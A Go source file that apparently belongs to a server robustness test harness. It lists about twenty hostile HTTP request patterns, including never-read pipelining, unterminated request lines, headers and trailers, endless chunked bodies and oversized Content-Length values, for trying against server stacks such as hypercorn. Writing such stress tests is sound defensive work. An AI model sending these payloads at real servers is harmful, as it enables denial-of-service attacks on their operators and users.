package flood

import (
	"fmt"
	"slices"
	"strings"
)

// Kind is one way to be hostile.
type Kind struct {
	Name  string
	About string
	// Opens is sent first. More, which may be nil, returns what is sent after that, repeatedly; its
	// argument counts from 0.
	Opens string
	More  func(n int) string
	Most  int  // how often More is sent; 0 means as long as the server accepts it
	Reads bool // reads what the server sends; otherwise nothing is ever read
	Ends  bool // closes its sending side after sending everything
	// HTTP2: only for stacks that speak it.
	HTTP2 bool
}

// Applies reports whether the kind can be tried on a stack.
func (k Kind) Applies(stack string) bool { return !k.HTTP2 || strings.HasPrefix(stack, "hypercorn") }

// always repeats the same text, a few KiB at a time.
func always(piece string) func(int) string {
	all := strings.Repeat(piece, max(1, 8192/len(piece)))
	return func(int) string { return all }
}

const (
	get   = "GET /?id=1&sleep=0 HTTP/1.1\r\nHost: flood\r\n\r\n"
	post  = "POST /?id=1&sleep=0 HTTP/1.1\r\nHost: flood\r\n"
	fours = 1000 // of four letters
)

// Kinds lists all kinds.
func Kinds() []Kind { return slices.Concat(http1Kinds(), bodyKinds(), http2Kinds()) }

func http1Kinds() []Kind {
	long := "GET //?" + strings.Repeat("flood", 600) + " HTTP/1.1\r\nHost: flood\r\n\r\n"
	return []Kind{
		{Name: "pipelined", About: "asks and never reads", More: always(get)},
		{Name: "pipelined-404", About: "asks for what is not there and never reads", More: always("GET /no HTTP/1.1\r\nHost: flood\r\n\r\n")},
		{Name: "pipelined-long", About: "asks with a long target, which a redirect repeats, and never reads", More: always(long)},
		{Name: "waiting", About: "asks for slow work, again and again on one connection", More: always(strings.Replace(get, "sleep=0", "sleep=1h", 1)), Reads: true},
		{Name: "expecting", About: "expects to be told to go on, and never reads", More: always(strings.Replace(get, "\r\n\r\n", "\r\nExpect: 100-continue\r\n\r\n", 1))},
		{Name: "half-closed", About: "asks ten thousand times, ends its side and never reads", More: always(get), Most: 10_000 / (8192 / len(get)), Ends: true},
		{Name: "websocket", About: "asks for WebSockets and never reads", More: always(
			strings.Replace(get, "\r\n\r\n", "\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AQIDBAUGBwgJCgsMDQ4PEA==\r\n\r\n", 1))},
		{Name: "long-line", About: "a request line without an end", Opens: "GET /?id=", More: always("a")},
		{Name: "long-field", About: "a field without an end", Opens: strings.TrimSuffix(get, "\r\n") + "X: ", More: always("a")},
		{Name: "many-fields", About: "fields without an end", Opens: strings.TrimSuffix(get, "\r\n"), More: always("A: b\r\n")},
		{Name: "empty-lines", About: "empty lines before a request", More: always("\r\n")},
	}
}

func bodyKinds() []Kind {
	chunked := post + "Transfer-Encoding: chunked\r\n\r\n"
	return []Kind{
		{Name: "body", About: "a body without an end", Opens: post + "Content-Length: 1000000000000\r\n\r\n", More: always("a")},
		{Name: "chunks", About: "a body of small chunks without an end", Opens: chunked, More: always("1\r\na\r\n")},
		{Name: "chunk-size", About: "a chunk's size without an end", Opens: chunked, More: always("0")},
		{Name: "chunk-extension", About: "a chunk's extension without an end", Opens: chunked + "1;", More: always("a")},
		{Name: "chunk-extensions", About: "extensions of every chunk", Opens: chunked, More: always("1;" + strings.Repeat("a", 1000) + "\r\na\r\n")},
		{Name: "trailers", About: "trailers without an end", Opens: chunked + "0\r\n", More: always("A: b\r\n")},
		{Name: "long-trailer", About: "a trailer without an end", Opens: chunked + "0\r\nX: ", More: always("a")},
		{Name: "bodies", About: "a body with every request, and never reads", More: always(
			strings.Replace(get, "\r\n\r\n", fmt.Sprintf("\r\nContent-Length: %d\r\n\r\n%s", 4*fours, strings.Repeat("body", fours)), 1))},
	}
}
